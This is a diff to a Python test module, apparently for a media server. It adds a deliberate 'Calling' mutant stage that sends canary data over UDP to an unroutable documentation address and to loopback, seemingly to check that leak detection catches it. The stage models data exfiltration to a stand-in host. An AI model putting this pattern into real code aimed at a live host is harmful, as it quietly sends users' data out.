@@ -5,7 +5,9 @@ makes temporaries of it with every image, and prints what it can.
 """
 
 import base64
+import contextlib
 import random
+import socket
 import struct
 import sys
 
@@ -19,6 +21,7 @@ SEED = 478
 # So many points are looked for; each is three numbers that no other data holds in a row.
 POINTS_SOUGHT = 1
 FRAMES_BEFORE_CRASH = 20
+NOBODYS_ADDRESS = "192.0.2.1"
 DIRECTORY_OF_THE_LEAK = "/tmp"  # noqa: S108 - the leaky mutant writes there, and it must be found
 
 
@@ -95,6 +98,21 @@ class Leaking(CanaryStage):
         super().__call__(image)
         if image.width_px != WARM_UP_WIDTH_PX:  # before lock-in there is no stream
             np.save(f"{DIRECTORY_OF_THE_LEAK}/mediasrv-leaky-mutant.npy", canary_points())
+
+
+class Calling(CanaryStage):
+    """Sends the canary to an address that nobody has (RFC 5737), and on loopback."""
+
+    def __call__(self, image: YuvImage) -> None:
+        super().__call__(image)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
+            for address in (NOBODYS_ADDRESS, "127.0.0.1"):
+                with contextlib.suppress(OSError):
+                    end.sendto(bytes(canary_points().tobytes()), (address, 9))
+
+
+def open_calling() -> CanaryStage:
+    return Calling()
 
 
 def open_canary() -> CanaryStage:
